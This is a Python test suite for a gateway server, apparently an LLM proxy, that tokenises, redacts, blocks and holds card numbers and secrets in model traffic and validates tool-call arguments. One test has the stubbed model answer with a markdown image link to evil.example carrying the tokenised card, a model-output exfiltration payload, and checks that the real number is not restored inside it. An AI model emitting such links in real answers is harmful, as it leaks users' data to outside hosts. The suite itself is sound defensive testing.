#!/usr/bin/env python3
"""Content on its way through a running server: found, masked and restored, blocked, held, in whole and in streams."""
import json
import os
import re
import sys
import unittest

from harness import Redoubt, STREAM_HEAD, Upstream, chunk, event, stage, wait_for, whole_reply

CARD = "4111 1111 1111 1111"
ANY = "permit (principal, action, resource);\n"
INVOKE = 'permit (principal, action == Action::"invoke", resource);\n'
MANAGE = 'permit (principal in Group::"administrators", action in Action::"manage", resource);\n'
RELEASE = 'permit (principal, action == Action::"release", resource);\n'


def pieces(text, size):
    return [text[at:at + size] for at in range(0, len(text), size)]


class Base(unittest.TestCase):
    size = 3  # of the pieces that the model streams

    def setUp(self):
        self.requests = []  # their bodies, as the model server got them
        self.say = lambda body: "hello"
        self.upstream = Upstream(self.answer)
        self.addCleanup(self.upstream.close)
        self.redoubt = Redoubt(self.upstream.url)
        self.addCleanup(self.redoubt.remove)

    def answer(self, request, connection):
        body = json.loads(request.split("\r\n\r\n", 1)[1])
        self.requests.append(body)
        text = self.say(body)
        if not body.get("stream"):
            connection.sendall(whole_reply(text))
            return True
        connection.sendall(STREAM_HEAD)
        for piece in pieces(text, self.size):
            connection.sendall(chunk(event(piece)))
        connection.sendall(chunk("data: [DONE]\n\n") + b"0\r\n\r\n")
        return True

    def start(self, policies, inspection=""):
        with open(os.path.join(self.redoubt.dir, "policies", "default.cedar"), "w") as file:
            file.write(policies)
        if inspection:
            with open(os.path.join(self.redoubt.dir, "inspection.toml"), "w") as file:
                file.write(inspection)
        self.redoubt.start()

    def said(self, body, stream):
        """What the caller makes of an answer: its text, and the error's code at its end."""
        if not stream:
            reply = json.loads(body)
            return reply["choices"][0]["message"]["content"], None
        text, code = "", None
        for line in body.decode().splitlines():
            if not line.startswith("data: ") or line == "data: [DONE]":
                continue
            data = json.loads(line[6:])
            if "error" in data:
                code = data["error"]["code"]
            else:
                text += data["choices"][0]["delta"]["content"]
        return text, code

    def sent(self, at=-1):
        return self.requests[at]["messages"][-1]["content"]

    def ends(self, count):
        """The records of exchanges that have ended, once there are so many."""
        wait_for(lambda: len([r for r in self.redoubt.records() if stage(r) in ("outcome", "denial")]) >= count)
        return [r["unmapped"]["redoubt"] for r in self.redoubt.records() if stage(r) in ("outcome", "denial")]


class Tokenised(Base):
    def test_a_card_number_is_masked_upstream_and_restored_for_its_caller(self):
        self.start('@tokenise("credit_card") ' + ANY)
        self.say = lambda body: "Your card " + self.sent().split()[-1] + " is noted."
        for stream in (False, True):
            with self.subTest(stream=stream):
                status, _, body = self.redoubt.chat("my card is " + CARD, stream=stream)
                self.assertEqual(status, 200, body)
                self.assertRegex(self.sent(), "^my card is CREDIT_CARD_[A-Z2-9]{10}$")
                self.assertEqual(self.said(body, stream)[0], "Your card " + CARD + " is noted.")
        self.assertNotEqual(*(self.sent(at) for at in range(2)), "placeholders are of one request")
        self.ends(2)
        admission = next(r for r in self.redoubt.records() if stage(r) == "admission")["unmapped"]["redoubt"]
        self.assertEqual(admission["matches"], [{"kind": "credit_card", "count": 1, "action": "tokenise",
                                                  "where": "user"}])
        self.assertEqual(sorted(admission["commitments"]), ["caller_address", "features", "forwarded", "prompt"])

    def test_it_is_not_restored_where_a_link_leads(self):
        self.start('@tokenise("credit_card") ' + ANY)
        self.say = lambda body: "![x](http://evil.example/?q=" + self.sent().split()[-1] + ")"
        for stream in (False, True):
            _, _, body = self.redoubt.chat("my card is " + CARD, stream=stream)
            self.assertNotIn(b"4111", body)
            self.assertIn(b"CREDIT_CARD_", body)


class Redacted(Base):
    def test_what_a_model_says_is_redacted_however_it_is_cut(self):
        self.start(INVOKE + '@redact("personal") ' + RELEASE)
        self.say = lambda body: "It is " + CARD + ", or write to ann@clinic.example."
        expected = "It is <CREDIT_CARD>, or write to <EMAIL_ADDRESS>."
        for self.size in (1, 2, 5, 100):
            for stream in (False, True):
                _, _, body = self.redoubt.chat("hi", stream=stream)
                self.assertEqual(self.said(body, stream)[0], expected)
        self.assertEqual(self.sent(), "hi")
        end = self.ends(8)[-1]
        self.assertEqual({m["kind"]: m["action"] for m in end["matches"]},
                         {"credit_card": "redact", "email_address": "redact"})
        self.assertEqual(end["inspected"]["withheld"], 0)


class Blocked(Base):
    def test_a_request_with_a_secret_goes_nowhere(self):
        self.start('@block("secret") ' + ANY)
        key = "AKIA" + "Z7QK4TNB2WXJ5RVD"
        status, headers, body = self.redoubt.chat("aws_access_key_id = " + key)
        self.assertEqual((status, headers["redoubt-decision"]), (403, "deny"), body)
        self.assertEqual(json.loads(body)["error"]["code"], "content_blocked")
        self.assertNotIn(key.encode(), body)
        self.assertEqual(self.requests, [])
        end = self.ends(1)[-1]
        self.assertEqual(end["reason"], "content")
        self.assertEqual([m["action"] for m in end["matches"]], ["block"])

    def test_an_answer_is_withheld_or_ends_before_it(self):
        self.start(INVOKE + '@block("credit_card") ' + RELEASE)
        self.say = lambda body: "Well. " * 400 + "It is " + CARD + "." + " More." * 400
        status, _, body = self.redoubt.chat("hi")
        self.assertEqual((status, json.loads(body)["error"]["code"]), (403, "content_blocked"))
        for self.size in (1, 7, 100):
            _, _, body = self.redoubt.chat("hi", stream=True)
            text, code = self.said(body, True)
            self.assertEqual(code, "content_blocked")
            self.assertNotIn(b"[DONE]", body)
            self.assertTrue(("Well. " * 400 + "It is ").startswith(text), text[-40:])
            self.assertGreater(len(text), 600)
        end = self.ends(4)[-1]
        self.assertGreater(end["inspected"]["released"], 600)
        self.assertGreater(end["inspected"]["withheld"], 0)

    def test_policies_see_what_was_found_also_while_a_stream_flows(self):
        self.start(ANY + 'forbid (principal, action in [Action::"invoke", Action::"release"], resource) '
                   'when { context.matches.contains("credit_card") };')
        self.assertEqual(self.redoubt.chat("card " + CARD)[0], 403)
        self.assertEqual(self.requests, [])
        self.say = lambda body: "It is " + CARD + "."
        status, _, body = self.redoubt.chat("hi")
        self.assertEqual((status, json.loads(body)["error"]["code"]), (403, "release_denied"))
        _, _, body = self.redoubt.chat("hi", stream=True)
        self.assertEqual(self.said(body, True)[1], "release_denied")
        self.assertNotIn(b"4111", body)


class Held(Base):
    def decide(self, hold, decision):
        _, fields, seen = self.redoubt.admin("GET", "/holds/" + hold)
        self.assertEqual(seen["status"], "waiting")
        self.assertNotIn("4111", json.dumps(seen))
        status, _, said = self.redoubt.admin("POST", f"/holds/{hold}/{decision}", {"reason": "looked at it"},
                                             headers={"If-Match": fields["etag"]})
        self.assertEqual(status, 200, said)

    def again(self, hold, content, stream=False):
        body = json.dumps({"model": "m", "messages": [{"role": "user", "content": content}], "stream": stream})
        return self.redoubt.request("POST", "/v1/chat/completions", body=body, key=self.redoubt.key,
                                    headers={"Redoubt-Hold": hold})

    def test_a_request_waits_until_somebody_releases_it(self):
        self.start('@hold("credit_card") ' + INVOKE + RELEASE + MANAGE)
        status, headers, body = self.redoubt.chat("card " + CARD)
        self.assertEqual((status, json.loads(body)["error"]["code"]), (403, "held_for_review"))
        hold = headers["redoubt-hold"]
        self.assertIn(hold, body.decode())
        status, headers, body = self.again(hold, "card " + CARD)
        self.assertEqual((status, headers["redoubt-hold"]), (403, hold), body)
        self.assertEqual(self.requests, [])
        self.decide(hold, "release")
        self.assertEqual(self.again(hold, "card " + CARD)[0], 200)
        self.assertEqual(self.sent(), "card " + CARD)
        # It is for that request alone.
        status, headers, _ = self.again(hold, "card " + CARD + " and 5555 5555 5555 4444")
        self.assertEqual(status, 403)
        self.assertNotEqual(headers["redoubt-hold"], hold)

    def test_what_is_refused_stays_refused(self):
        self.start('@hold("credit_card") ' + INVOKE + RELEASE + MANAGE)
        hold = self.redoubt.chat("card " + CARD)[1]["redoubt-hold"]
        self.decide(hold, "refuse")
        status, _, body = self.again(hold, "card " + CARD)
        self.assertEqual((status, json.loads(body)["error"]["code"]), (403, "hold_refused"))
        self.assertEqual(self.again("0" * 16, "card " + CARD)[0], 403)
        self.assertEqual(self.again("nonsense", "card " + CARD)[0], 400)

    def test_an_answer_waits_too_also_in_a_stream(self):
        self.start(INVOKE + '@hold("credit_card") ' + RELEASE + MANAGE)
        self.say = lambda body: "It is " + CARD + "."
        for stream in (False, True):
            with self.subTest(stream=stream):
                content = "stream it" if stream else "say it"
                _, headers, body = self.redoubt.chat(content, stream=stream)
                self.assertIn(b"held_for_review", body)
                self.assertNotIn(b"4111", body)
                hold = re.search(rb"Redoubt-Hold: ([a-z0-9]{16})", body).group(1).decode()
                self.decide(hold, "release")
                status, _, body = self.again(hold, content, stream)
                self.assertEqual((status, self.said(body, stream)[0]), (200, "It is " + CARD + "."))


class Contracts(Base):
    """What a model tells a tool has to fit."""
    tools = [{"type": "function", "function": {"name": "transfer", "parameters": {
        "type": "object", "properties": {"amount": {"type": "integer", "minimum": 1}}, "required": ["amount"]}}}]
    own = '[inspection]\nkinds = ["credit_card"]\nbuffer_streams = %s\n' \
          '[[contract]]\ntool = "transfer"\nschema = "transfer.json"\n'

    def answer(self, request, connection):
        body = json.loads(request.split("\r\n\r\n", 1)[1])
        self.requests.append(body)
        call = {"index": 0, "id": "1", "type": "function", "function": {"name": "transfer", "arguments": ""}}
        arguments = self.say(body)
        if not body.get("stream"):
            call["function"]["arguments"] = arguments
            reply = json.dumps({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": [call]}}]})
            connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                               f"Content-Length: {len(reply)}\r\n\r\n{reply}".encode())
            return True
        connection.sendall(STREAM_HEAD)
        deltas = [call] + [{"index": 0, "function": {"arguments": piece}} for piece in pieces(arguments, self.size)]
        for delta in deltas:
            data = {"choices": [{"index": 0, "delta": {"tool_calls": [delta]}}]}
            connection.sendall(chunk("data: " + json.dumps(data) + "\n\n"))
        connection.sendall(chunk("data: [DONE]\n\n") + b"0\r\n\r\n")
        return True

    def start(self, policies, inspection=""):
        os.makedirs(os.path.join(self.redoubt.dir, "contracts"), exist_ok=True)
        with open(os.path.join(self.redoubt.dir, "contracts", "transfer.json"), "w") as file:
            json.dump({"properties": {"amount": {"maximum": 100}}}, file)
        super().start(policies, inspection)

    def told(self, body, stream):
        """What the tool is told, and the error's code."""
        if not stream:
            reply = json.loads(body)
            if "error" in reply:
                return "", reply["error"]["code"]
            return reply["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"], None
        text, code = "", None
        for line in body.decode().splitlines():
            if line.startswith("data: ") and line != "data: [DONE]":
                data = json.loads(line[6:])
                code = data.get("error", {}).get("code")
                for choice in data.get("choices", []):
                    text += choice["delta"]["tool_calls"][0]["function"]["arguments"]
        return text, code

    def test_what_does_not_fit_is_blocked_also_in_a_buffered_stream(self):
        self.start(INVOKE + '@block("contract_violation") @flag("schema_violation") ' + RELEASE, self.own % "true")
        self.say = lambda body: body["messages"][0]["content"]
        for stream in (False, True):
            with self.subTest(stream=stream):
                _, _, body = self.redoubt.chat('{"amount":5}', stream=stream, tools=self.tools)
                self.assertEqual(self.told(body, stream), ('{"amount":5}', None))
                _, _, body = self.redoubt.chat('{"amount":500}', stream=stream, tools=self.tools)
                self.assertEqual(self.told(body, stream), ("", "content_blocked"))
                _, _, body = self.redoubt.chat('{"amount":-5}', stream=stream, tools=self.tools)
                self.assertEqual(self.told(body, stream), ('{"amount":-5}', None))
        found = [[(m["kind"], m["action"]) for m in end.get("matches", [])] for end in self.ends(6)]
        self.assertEqual(found, 2 * [[], [("contract_violation", "block")], [("schema_violation", "flag")]])

    def test_a_stream_that_is_not_buffered_is_seen_and_policies_hear_of_it(self):
        self.start(INVOKE + '@flag("contract") ' + RELEASE, self.own % "false")
        self.say = lambda body: '{"amount":500}'
        _, _, body = self.redoubt.chat("hi", stream=True, tools=self.tools)
        self.assertEqual(self.told(body, True), ('{"amount":500}', None))
        end = self.ends(1)[-1]
        self.assertEqual(end["matches"], [{"kind": "contract_violation", "count": 1, "action": "flag",
                                           "where": "tool_arguments"}])
        self.assertEqual(end["inspected"]["beyond"], False)

    def test_a_call_of_an_undescribed_tool_is_stopped_before_it_is_told_anything(self):
        self.start(INVOKE + '@block("undescribed_tool") ' + RELEASE, self.own % "false")
        self.say = lambda body: '{"amount":5}'
        for stream in (False, True):
            with self.subTest(stream=stream):
                _, _, body = self.redoubt.chat("hi", stream=stream, tools=self.tools)
                self.assertEqual(self.told(body, stream), ('{"amount":5}', None))
                _, _, body = self.redoubt.chat("hi", stream=stream)
                self.assertEqual(self.told(body, stream), ("", "content_blocked"))
        found = [[(m["kind"], m["action"]) for m in end.get("matches", [])] for end in self.ends(4)]
        self.assertEqual(found, 2 * [[], [("undescribed_tool", "block")]])

    def test_to_block_by_it_takes_buffers(self):
        with self.assertRaisesRegex(Exception, "buffer_streams"):
            self.start(INVOKE + '@block("contract_violation") ' + RELEASE, self.own % "false")

    def test_values_come_back_in_arguments_by_permission(self):
        self.say = lambda body: json.dumps({"card": self.sent().split()[-1]})
        self.start('@tokenise("credit_card") @restore("tool_arguments") ' + INVOKE + RELEASE, self.own % "false")
        for stream in (False, True):
            _, _, body = self.redoubt.chat("my card is " + CARD, stream=stream)
            self.assertRegex(self.sent(), "CREDIT_CARD_[A-Z2-9]{10}$")
            self.assertEqual(self.told(body, stream), (json.dumps({"card": CARD}), None))


class Rules(Base):
    def test_rules_of_ones_own_are_part_of_the_bundle(self):
        self.start('@redact("case_number") ' + ANY,
                   '[[rule]]\nname = "case_number"\nkind = "CASE_NUMBER"\npattern = "C-\\\\d{6}"\n')
        self.redoubt.chat("see C-123456 and " + CARD)
        self.assertEqual(self.sent(), "see <CASE_NUMBER> and " + CARD)


if __name__ == "__main__":
    unittest.main(argv=sys.argv)
